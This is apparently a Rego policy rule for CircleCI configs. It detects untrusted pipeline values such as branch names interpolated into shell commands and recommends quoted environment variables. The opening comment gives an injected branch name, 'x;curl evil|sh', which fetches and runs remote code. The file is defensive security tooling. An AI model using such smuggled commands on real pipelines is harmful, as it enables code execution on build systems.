# No untrusted pipeline values spliced into shell: `<< pipeline.git.branch >>` is replaced by the
# branch name before the shell parses the command, so a branch named `x;curl evil|sh` runs code.

package policygate.circleci.rules.no_untrusted_interpolation

import rego.v1

import data.policygate.circleci.lib
import data.policygate.circleci.settings.settings

__policy_metadata__ := {
	"name": "No untrusted pipeline values interpolated into shell",
	"category": "injection",
	"severity": "high",
	"description": "No run command contains << pipeline.git.branch >>, << pipeline.git.tag >>, << pipeline.trigger_parameters.* >> or << pipeline.event.* >>: values whoever pushes a branch or sends a webhook chooses, substituted into the script text.",
	"remediation": "Pass the value through an environment variable and quote it: environment: {BRANCH: << pipeline.git.branch >>} and use \"$BRANCH\" in the command (or CircleCI's built-in $CIRCLE_BRANCH).",
}

interpolations(command) := {m[1] |
	contains(command, "<<")
	some m in regex.find_all_string_submatch_n(`<<\s*pipeline\.([A-Za-z0-9_.-]+)\s*>>`, command, -1)
}

untrusted(value) if {
	some p in settings.untrusted_pipeline_values
	regex.match(p, value)
}

violations contains msg if {
	some s in lib.run_steps
	some value in interpolations(s.command)
	untrusted(value)
	msg := reason(sprintf("Job '%s' step %s", [s.job, s.step]), value)
}

# The config as written shows what compiling substituted (given pipeline values) away.
violations contains msg if {
	some c in lib.source_commands
	some value in interpolations(c.command)
	untrusted(value)
	not value in compiled_values
	msg := reason(c.where, value)
}

compiled_values contains value if {
	some s in lib.run_steps
	some value in interpolations(s.command)
}

reason(where, value) := sprintf("%s interpolates << pipeline.%s >> into shell. Pass it in an environment variable and use \"$VAR\" quoted.", [where, value])

hard_fail contains {"rule": "no_untrusted_interpolation", "reason": reason} if {
	lib.level("no_untrusted_interpolation") == "hard"
	some reason in violations
}

soft_fail contains {"rule": "no_untrusted_interpolation", "reason": reason} if {
	lib.level("no_untrusted_interpolation") == "soft"
	some reason in violations
}
